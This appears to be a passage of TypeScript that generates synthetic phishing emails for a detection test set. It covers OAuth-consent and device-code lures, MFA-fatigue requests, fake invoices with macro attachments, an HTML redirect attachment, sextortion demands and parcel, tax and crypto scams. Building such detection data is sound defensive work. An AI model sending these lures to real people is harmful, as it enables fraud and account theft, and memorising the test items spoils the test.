        `HR via ${s.pick(['DocuSign', 'Adobe Sign'])}`,
        `hr-notices@${s.host('hr', 'esign')}`,
      ),
      subject: `Please sign: ${s.company} Employee Handbook 2027 acknowledgement`,
      html: page(
        [
          `${s.company} Human Resources sent you a document to sign: <b>Employee Handbook 2027 – Acknowledgement</b>.`,
          'All employees must acknowledge the updated handbook by Friday 6 November.',
        ],
        ['REVIEW DOCUMENT', `https://${s.host('handbook')}/sign/${s.token(20)}`],
      ),
    }),
  },
  {
    kind: 'hr-notice',
    template: 'benefits-enrolment',
    write: (s) => {
      const spanish = s.below(3) === 0;
      return {
        headers: s.headers(spanish ? 'Recursos Humanos' : 'Benefits Team', `benefits@${s.host('benefits')}`),
        subject: spanish
          ? 'Inscripción de beneficios 2027: confirme antes del viernes'
          : 'Open enrolment closes Friday – confirm your elections',
        html: page(
          spanish
            ? [
                `Hola ${s.victim.first},`,
                'Debe confirmar sus beneficios y su beneficiario antes del viernes o perderá la cobertura.',
              ]
            : [
                `Hi ${s.victim.first},`,
                'You have not confirmed your 2027 elections and beneficiary. Unconfirmed employees default to no coverage.',
              ],
          [
            spanish ? 'Confirmar ahora' : 'Confirm elections',
            `https://${s.host('benefits', 'portal')}/login?c=${s.token(8)}`,
          ],
        ),
      };
    },
  },
  // OAuth consent phishing: the page is the real identity provider's, the app is the attacker's.
  {
    kind: 'oauth-consent',
    template: 'microsoft-app-consent',
    write: (s) => {
      const id = `${s.hex(8)}-${s.hex(4)}-${s.hex(4)}-${s.hex(4)}-${s.hex(12)}`;
      const redirect = encodeURIComponent(`https://${s.host('docuview')}/auth/callback`);
      return {
        headers: s.headers(s.stranger.name, s.stranger.email),
        subject: s.pick([
          'Shared file: contract draft',
          'Secure document shared with you',
          'Files for your review',
        ]),
        html: page(
          [
            `${s.stranger.name} shared a secure file with you using <b>DocuView Secure</b>.`,
            'Approve the app once to open it.',
          ],
          [
            'Open file',
            `https://login.microsoftonline.example/common/oauth2/v2.0/authorize?client_id=${id}&response_type=code&redirect_uri=${redirect}&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All&prompt=consent`,
          ],
        ),
      };
    },
  },
  {
    kind: 'oauth-consent',
    template: 'google-app-consent',
    write: (s) => ({
      headers: s.headers('Google Drive', `drive-shares-noreply@${s.host('drive')}`),
      subject: `${s.colleague.name} shared "${s.pick(['Salary bands 2027', 'Reorg plan', 'Board deck'])}" with you`,
      html: page(
        [
          `${s.colleague.name} (${s.colleague.email}) has invited you to view a PDF with <b>PDF Viewer Pro</b>.`,
        ],
        [
          'Open',
          `https://accounts.google.example/o/oauth2/auth?client_id=${s.digits(12)}-${s.token(20)}.apps.googleusercontent.example&redirect_uri=https://${s.host('pdfviewer')}/cb&response_type=code&scope=https://mail.google.example/%20https://www.googleapis.example/auth/drive&access_type=offline`,
        ],
      ),
    }),
  },
  // File-share notices: a colleague's or a partner's name on a share that leads to a sign-in page.
  {
    kind: 'file-share',
    template: 'sharepoint-share',
    write: (s) => {
      const name = s.pick([
        'FY27 Budget Draft.xlsx',
        'Headcount Plan.xlsx',
        'Signed NDA.pdf',
        'Payment Schedule.xlsx',
      ]);
      return {
        headers: s.headers(`${s.stranger.name} (via SharePoint)`, `no-reply@sharepointonline.${s.host()}`),
        subject: `${s.stranger.name} shared "${name}" with you`,
        html: page(
          [
            `${s.stranger.name} shared a file with you`,
            `<b>${name}</b>`,
            `<i>"Here's the file we discussed – ${s.stranger.first}"</i>`,
          ],
          ['Open', `https://${s.host(s.vendor.domain.split('.')[0], 'my-sharepoint')}/:x:/g/${s.token(22)}`],
          'Microsoft respects your privacy.',
        ),
      };
    },
  },
  {
    kind: 'file-share',
    template: 'transfer-service',
    write: (s) => ({
      headers: s.headers('WeTransfer', `noreply@wetransfer-${s.token(4)}.test`),
      subject: `${s.stranger.email} sent you ${2 + s.below(5)} files`,
      html: page(
        [
          `${s.pick(['Final invoices and PO', 'Contract package', 'Scans'])} – ${s.money(10, 90)} MB`,
          'Files expire in 7 days.',
        ],
        ['Get your files', `https://${s.host('we', 'transfer')}/downloads/${s.hex(24)}`],
      ),
    }),
  },
  // Fake invoices: a bill that pays the attacker, or a macro document.
  {
    kind: 'invoice-fraud',
    template: 'final-notice-pdf',
    write: (s) => {
      const german = s.below(3) === 0;
      const number = `${s.digits(4)}-${s.digits(3)}`;
      const amount = s.money(2000, 18000);
      return {
        headers: s.headers(
          german ? 'Buchhaltung' : 'Accounts Receivable',
          `ar@${s.host('consulting', 'services')}`,
        ),
        subject: german ? `Letzte Mahnung: Rechnung ${number}` : `FINAL NOTICE: invoice ${number} overdue`,
        text: german
          ? `Sehr geehrte Damen und Herren,\n\ntrotz unserer Erinnerung ist Rechnung ${number} über EUR ${amount} noch offen. Bitte überweisen Sie den Betrag heute auf das Konto in der Anlage, um Inkassokosten zu vermeiden.\n\nMit freundlichen Grüßen\nBuchhaltung`
          : `Dear ${s.victim.first},\n\nInvoice ${number} for USD ${amount} is now 30 days overdue. Pay today to the account on the attached invoice to avoid a late fee and referral to collections.\n\nAccounts Receivable`,
        parts: [
          pdf(`${german ? 'Rechnung' : 'Invoice'}_${number}.pdf`, [
            `Invoice ${number}`,
            `Consulting services, October 2026: ${amount}`,
            `IBAN DE${s.digits(20)}`,
          ]),
        ],
      };
    },
  },
  {
    kind: 'invoice-fraud',
    template: 'macro-workbook',
    write: (s) => ({
      headers: s.headers(`${s.vendor.name} AR`, `ar@${s.borrowed()}`),
      subject: `Invoice ${s.digits(6)} – enable editing to view`,
      text: 'Please find the invoice attached. The file is protected, click Enable Content to view.',
      parts: [
        file(
          'application/vnd.ms-excel.sheet.macroEnabled.12',
          `Invoice_${s.digits(6)}.xlsm`,
          macroWorkbook(),
        ),
      ],
    }),
  },
  {
    kind: 'invoice-fraud',
    template: 'legacy-macro-statement',
    write: (s) => ({
      headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${s.borrowed()}`),
      subject: s.pick(['Statement of account', 'Outstanding invoices October', 'Aged debt report']),
      text: 'Hi, attached is your statement, please check and advise.',
      parts: [file('application/msword', `Statement_${s.digits(5)}.doc`, legacyMacroDocument())],
    }),
  },
  // Parcel lures, often in the recipient's own language.
  {
    kind: 'parcel-lure',
    template: 'customs-fee',
    write: (s) => {
      const fee = `${1 + s.below(3)},${s.digits(2)}`;
      const language = s.pick(['en', 'de', 'fr'] as const);
      const words = {
        en: [
          'Your parcel is held at customs',
          `Import duty of EUR ${fee} is unpaid. Pay within 48 hours or the parcel is returned.`,
          'Pay now',
        ],
        de: [
          'Ihr Paket wird beim Zoll zurückgehalten',
          `Es ist eine Einfuhrgebühr von ${fee} EUR offen. Bitte zahlen Sie innerhalb von 48 Stunden, sonst geht das Paket zurück.`,
          'Jetzt bezahlen',
        ],
        fr: [
          'Votre colis est retenu en douane',
          `Des frais de douane de ${fee} EUR restent à payer sous 48 heures, sinon le colis sera renvoyé.`,
          'Payer maintenant',
        ],
      }[language];
      return {
        headers: s.headers(
          s.pick(['DHL Express', 'DPD', 'La Poste Colissimo']),
          `noreply@${s.host('parcel', 'track')}`,
        ),
        subject: `${words[0]} – ${s.digits(10)}`,
        html: page([words[0], words[1]], [words[2], `https://${s.host('customs')}/pay?t=${s.digits(10)}`]),
      };
    },
  },
  {
    kind: 'parcel-lure',
    template: 'redelivery-address',
    write: (s) => ({
      headers: s.headers(s.pick(['USPS', 'Royal Mail', 'FedEx']), `tracking@${s.borrowed()}`),
      subject: s.pick([
        'We missed you – schedule redelivery',
        'Delivery attempt failed',
        'Incomplete address on your package',
      ]),
      text: `We attempted to deliver your package today but the address was incomplete.\nUpdate your address within 12 hours: https://${s.host('redelivery')}/${s.token(6)}\n\nTracking: ${s.digits(4)} ${s.digits(4)} ${s.digits(4)}`,
    }),
  },
  // Government lures: tax refunds, unpaid tolls and fines.
  {
    kind: 'government-lure',
    template: 'tax-refund',
    write: (s) => {
      const french = s.below(3) === 0;
      return {
        headers: s.headers(
          french ? 'impots.gouv' : 'HMRC',
          `no-reply@${s.host(french ? 'impots' : 'hmrc', 'refund')}`,
        ),
        subject: french ? 'Avis de remboursement d’impôt' : `Tax refund notification – £${s.money(200, 900)}`,
        html: french
          ? page(
              [
                `Après le dernier calcul de votre impôt, vous avez droit à un remboursement de ${s.money(150, 800)} €.`,
              ],
              ['Accéder au formulaire', `https://${s.host('impots')}/remboursement`],
            )
          : page(
              [
                'After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund.',
                'Please submit the tax refund request within 3 working days.',
              ],
              ['Claim refund', `https://${s.host('gov', 'refund')}/claim`],
            ),
      };
    },
  },
  {
    kind: 'government-lure',
    template: 'unpaid-toll',
    write: (s) => ({
      headers: s.headers(
        s.pick(['E-ZPass', 'FasTrak', 'Toll Services', 'SunPass']),
        `notice@${s.host('toll')}`,
      ),
      subject: `Unpaid toll notice – balance $${s.money(3, 12)}`,
      text: `Our records show an unpaid toll balance of $${s.money(3, 12)} on your vehicle. To avoid a late fee of $50 and suspension of your registration, pay by 4 November:\nhttps://${s.host('toll', 'pay')}/us\n\nToll Services`,
    }),
  },
  // Crypto: the wallet's recovery phrase, a withdrawal that was not made, an airdrop.
  {
    kind: 'crypto',
    template: 'wallet-recovery-phrase',
    write: (s) => ({
      headers: s.headers(s.pick(['Ledger', 'Trezor', 'MetaMask']), `security@${s.host('wallet')}`),
      subject: 'Mandatory security update: verify your recovery phrase',
      html: page(
        [
          'Following a data incident at a third-party provider, all wallets must be re-validated by 4 November.',
          'You will need your 24-word recovery phrase.',
        ],
        ['Validate my wallet', `https://${s.host('wallet', 'validate')}/`],
      ),
    }),
  },
  {
    kind: 'crypto',
    template: 'exchange-withdrawal-callback',
    write: (s) => ({
      headers: s.headers(s.pick(['Coinbase', 'Kraken', 'Binance']), `no-reply@${s.host('exchange')}`),
      subject: `Withdrawal request: ${(0.1 + s.below(200) / 100).toFixed(4)} BTC`,
      text: `A withdrawal to ${s.btc()} was requested from your account.\nIf you did not request this, call our fraud team now to stop it: ${s.phone()}\nDo not reply to this email.`,
    }),
  },
  {
    kind: 'crypto',
    template: 'airdrop-claim',
    write: (s) => ({
      headers: s.headers('Airdrop Team', `claims@${s.host('airdrop')}`),
      subject: `Your allocation of ${s.money(1000, 9000)} tokens is ready to claim`,
      html: page(
        [
          `Wallet ${s.eth()} is eligible for the season 3 airdrop.`,
          'Claim before the snapshot closes on 5 November.',
        ],
        ['Connect wallet and claim', `https://${s.host('claim')}/?ref=${s.token(8)}`],
      ),
    }),
  },
  // Calendar invitations: the lure in the event, which calendars add without the user's doing.
  {
    kind: 'calendar-invite',
    template: 'bonus-review-invite',
    write: (s) => {
      const organizer = `hr@${s.host('corp', 'hr')}`;
      const link = `https://${s.host('review')}/meet/${s.token(10)}`;
      return {
        headers: s.headers(`${s.company} HR`, organizer),
        subject: 'Invitation: 2027 Bonus Review @ Wed 4 Nov 2026 10:00',
        text: `Please review your bonus statement before the meeting: ${link}`,
        parts: [
          file(
            'text/calendar',
            'invite.ics',
            invitation({
              uid: `${s.hex(16)}@${organizer.split('@')[1]}`,
              organizer,
              attendee: s.victim.email,
              summary: '2027 Bonus Review',
              description: `Review your statement before the meeting: ${link}`,
              location: link,
              start: '20261104T100000Z',
            }),
          ),
        ],
      };
    },
  },
  {
    kind: 'calendar-invite',
    template: 'partner-meeting-invite',
    write: (s) => {
      const link = `https://teams-live.${s.host()}/meet/${s.digits(11)}`;
      return {
        headers: s.headers(s.stranger.name, s.stranger.email),
        subject: `Invitation: ${s.vendor.name} contract renewal @ Thu 5 Nov 2026 15:00`,
        text: `Join the meeting: ${link}\nMeeting ID: ${s.digits(3)} ${s.digits(3)} ${s.digits(3)}`,
        parts: [
          file(
            'text/calendar',
            'invite.ics',
            invitation({
              uid: `${s.hex(16)}@${s.vendor.domain}`,
              organizer: s.stranger.email,
              attendee: s.victim.email,
              summary: `${s.vendor.name} contract renewal`,
              description: `Microsoft Teams meeting. Join: ${link}`,
              location: 'Microsoft Teams Meeting',
              start: '20261105T150000Z',
            }),
          ),
        ],
      };
    },
  },
  // Voicemail and fax notices.
  {
    kind: 'voicemail-fax',
    template: 'voicemail-link',
    write: (s) => ({
      headers: s.headers(
        `${s.pick(['RingCentral', 'Voicemail', '8x8', 'Zoom Phone'])}`,
        `voicemail@${s.host('vm')}`,
      ),
      subject: `You have a new voicemail from ${s.phone()} (0:${s.digits(2).replace(/^[6-9]/, '5')})`,
      html: page(
        [`Received: Monday 2 November 2026 ${8 + s.below(2)}:${s.digits(2).replace(/^[6-9]/, '3')}`],
        ['Play voicemail', `https://${s.host('voicemail')}/play/${s.token(14)}#${b64url(s.victim.email)}`],
      ),
    }),
  },
  {
    kind: 'voicemail-fax',
    template: 'efax-html-redirect',
    write: (s) => ({
      headers: s.headers('eFax', `message@${s.host('efax')}`),
      subject: `eFax message from "${s.phone()}" – ${2 + s.below(5)} page(s)`,
      text: 'You have received a fax. Open the attached document to view it.',
      parts: [
        html(
          `Fax_${s.digits(7)}.html`,
          `<html><head><meta http-equiv="refresh" content="0;url=https://${s.host('fax', 'view')}/?m=${b64url(s.victim.email)}"></head><body>Loading fax…</body></html>`,
        ),
      ],
    }),
  },
  // MFA fatigue and device-code phishing (Storm-2372): the code or the approval is what is asked for.
  {
    kind: 'mfa-device-code',
    template: 'device-code-meeting',
    write: (s) => {
      const code = s.token(9).toUpperCase();
      return {
        headers: s.headers(s.stranger.name, s.stranger.email),
        subject: s.pick(['Teams meeting – access code', 'Secure room for our call', 'Document room access']),
        text: [
          `Hi ${s.victim.first},`,
          '',
          'For our call I have set up a secure room. To join, go to https://microsoft.example/devicelogin',
          `and enter the code ${code} (valid 15 minutes), then sign in with your work account.`,
          '',
          'Best,',
          s.stranger.name,
        ].join('\n'),
      };
    },
  },
  {
    kind: 'mfa-device-code',
    template: 'approve-the-prompts',
    write: (s) => ({
      headers: s.headers(`${s.company} IT`, `it@${s.host('corp', 'it')}`),
      subject: 'MFA policy update – approve the verification requests',
      text: `Hello ${s.victim.first},\n\nWe are re-syncing Microsoft Authenticator for all staff this afternoon. You will receive several sign-in approval requests; please approve them so your account is not locked. No other action is needed.\n\nIT Support`,
    }),
  },
  {
    kind: 'mfa-device-code',
    template: 'reply-with-code',
    write: (s) => ({
      headers: s.headers(
        'Google Workspace Support',
        s.freemail({ ...s.stranger, first: 'workspace', last: 'support' }),
      ),
      subject: 'Verify ownership of your account',
      text: `We received a request to move ${s.victim.email} to a new device. To confirm you own the account, reply with the 6-digit code we just sent to your phone. If we do not hear from you within 1 hour the account will be suspended.`,
    }),
  },
  // Fake security alerts from a provider.
  {
    kind: 'fake-security-alert',
    template: 'unusual-sign-in',
    write: (s) => ({
      headers: s.headers('Microsoft account team', `account-security-noreply@${s.host('account', 'live')}`),
      subject: 'Microsoft account unusual sign-in activity',
      html: page(
        [
          `We detected something unusual about a recent sign-in to the Microsoft account ${s.victim.email}.`,
          `Country/region: ${s.pick(['Russia/Moscow', 'Nigeria', 'Vietnam', 'Brazil'])}<br>IP address: 198.51.100.${s.below(250)}<br>Date: 02/11/2026 04:${s.digits(2).replace(/^[6-9]/, '1')} GMT`,
          "If this wasn't you, your account may be compromised.",
        ],
        ['Review recent activity', `https://${s.host('account', 'live')}/recover?u=${s.victim.email}`],
      ),
    }),
  },
  {
    kind: 'fake-security-alert',
    template: 'apple-id-locked',
    write: (s) => ({
      headers: s.headers('Apple', `appleid@id.apple.${s.host()}`),
      subject: s.pick([
        `Your Apple ID has been locked for security reasons [Case ${s.digits(8)}]`,
        'Your Apple Account was used to sign in on a new device',
      ]),
      text: `Dear ${s.victim.first},\n\nYour Apple ID was used to sign in to iCloud on an iPhone 15 Pro near ${s.pick(['Kyiv', 'Lagos', 'Shenzhen', 'São Paulo'])}. For your protection we have locked the account.\n\nUnlock it at https://${s.host('appleid', 'unlock')}/ within 24 hours or it will be deleted.\n\nApple Support`,
    }),
  },
  // Job offers: the task scam on a messaging app, and the recruiter with a "coding test".
  {
    kind: 'job-offer',
    template: 'task-scam-whatsapp',
    write: (s) => ({
      headers: s.headers(
        `${s.stranger.first} from ${s.pick(['Talent Hub', 'RemoteWorks', 'HireBridge'])}`,
        s.freemail(s.stranger),
      ),
      subject: s.pick([
        'Flexible remote position – $300-$800/day',
        'Part-time online job, no experience needed',
      ]),
      text: `Hello,\n\nWe found your CV on a job site. We are hiring part-time online assistants: 60–90 minutes a day, daily pay of $${200 + s.below(100)}–$${600 + s.below(300)}.\nIf interested, contact me on WhatsApp: +44 7700 900${s.digits(3)}\n\n${s.stranger.first}, HR`,
    }),
  },
  {
    kind: 'job-offer',
    template: 'recruiter-coding-assessment',
    write: (s) => ({
      headers: s.headers(
        `${s.stranger.name} | Talent Acquisition`,
        `${s.stranger.first.toLowerCase()}@${s.host('careers')}`,
      ),
      subject: `Senior engineer role – technical assessment`,
      text: `Hi ${s.victim.first},\n\nThank you for your interest. As the next step, please run the attached assessment project locally and send us the output by Thursday. Compensation for the role is $${180 + s.below(60)}k plus equity.\n\nBest regards,\n${s.stranger.name}`,
      parts: [file('application/zip', 'Assessment_Project.zip', zipOf('setup_assessment.bat'))],
    }),
  },
  // Extortion: sextortion with a wallet, the 2024 variant with the victim's street.
  {
    kind: 'extortion',
    template: 'sextortion-bitcoin',
    write: (s) => ({
      headers: s.headers(s.victim.name, s.victim.email, [`Return-Path: <bounce@${s.host('mx')}>`]),
      subject: s.pick([
        'Security alert: your account was compromised',
        `${s.victim.first}, you have 48 hours`,
        'I know everything',
      ]),
      text: `Hello!\n\nAs you may have noticed, I sent you this email from your own account. I am a hacker who got access to your device months ago. I recorded you through your webcam while you visited adult sites. I also have all your contacts.\n\nSend $${1200 + s.below(1400)} in Bitcoin to this wallet: ${s.btc()}\n\nYou have 48 hours from opening this message. If I do not get the payment, the video goes to all your contacts. Do not reply, this address is not monitored.`,
    }),
  },
  {
    kind: 'extortion',
    template: 'house-photo-pdf',
    write: (s) => {
      const street = s.street();
      return {
        headers: s.headers('Anonymous', s.freemail({ ...s.stranger, first: 'x', last: s.token(6) })),
        subject: `${s.victim.name}`,
        text: `${s.victim.first}, I know you live at ${street}. Read the attached file carefully.`,
        parts: [
          pdf(`${s.victim.first}_${s.victim.last}.pdf`, [
            `${s.victim.first}, is visiting ${street} a more convenient way to reach you?`,
            'I have videos of you. Pay $2000 in Bitcoin within 24 hours or I share them.',
            `Wallet: ${s.btc()}`,
          ]),
        ],
      };
    },
  },
  // Charity and disaster scams.
  {
    kind: 'charity-scam',
    template: 'disaster-relief-crypto',
    write: (s) => {
      const place = s.pick(['the Caribbean', 'southern Turkey', 'Morocco', 'the Philippines', 'Valencia']);
      return {
        headers: s.headers(
          `${s.pick(['Global Relief Fund', 'Hope Now Foundation', 'Red Relief'])}`,
          `donate@${s.host('relief')}`,
        ),
        subject: `Urgent appeal: families in ${place} need your help today`,
        html: page(
          [
            `Thousands of families in ${place} lost everything in last week's disaster.`,
            `Donate by card or send crypto directly: BTC ${s.btc()} / ETH ${s.eth()}`,
          ],
          ['Donate now', `https://${s.host('relief', 'donate')}/`],
        ),
      };
    },
  },
  {
    kind: 'charity-scam',
    template: 'company-matching-drive',
    write: (s) => ({
      headers: s.headers(`${s.company} Cares`, `cares@${s.host('corp', 'giving')}`),
      subject: `${s.company} matches your hurricane relief donation`,
      text: `Dear colleague,\n\nFor every dollar you give to the hurricane relief fund this week, ${s.company} will give another. Sign in to the giving portal with your work account to donate from your pay:\nhttps://${s.host('giving')}/match\n\nThank you for your generosity.`,
    }),
  },
  // "Your mailbox is full" and quarantine notices.
  {
    kind: 'mailbox-full',
    template: 'quota-almost-full',
    write: (s) => {
      const used = 96 + s.below(4);
      return {
        headers: s.headers('Mail Administrator', `postmaster@${s.host('mail', 'quota')}`),
        subject: `Your mailbox is ${used}% full`,
        html: page(
          [
            `${s.victim.email} has used ${(49 + s.below(10) / 10).toFixed(1)} GB of 50 GB (${used}%).`,
            'New messages will be rejected once the limit is reached.',
          ],
          [
            'Increase storage for free',
            `https://${s.host('mail', 'storage')}/upgrade?email=${s.victim.email}`,
          ],
        ),
      };
    },
  },
  {
    kind: 'mailbox-full',
    template: 'held-messages',
    write: (s) => {
      const held = 3 + s.below(8);
      const link = `https://${s.host('quarantine')}/release?u=${b64url(s.victim.email)}`;
      const rows = Array.from(
        { length: 3 },
        () =>
          `<tr><td>${s.pick(['Invoice payment', 'Re: contract', 'Shipment update', 'Urgent: signed copy'])}</td><td><a href="${link}">Release</a></td></tr>`,
      );
      return {
        headers: s.headers('Email Quarantine', `quarantine@${s.host('corp', 'mailprotect')}`),
        subject: `You have ${held} messages held in quarantine`,
        html: `<html><body><p>${held} incoming messages for ${s.victim.email} are held pending your review.</p><table>${rows.join('')}</table><p><a href="${link}">Release all messages</a></p></body></html>`,
      };
    },
  },
];

export const UNSEEN_3_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_3_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing3(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fill(ENTRIES, perTemplate, seed, seededRandom, 3_000_000);
}
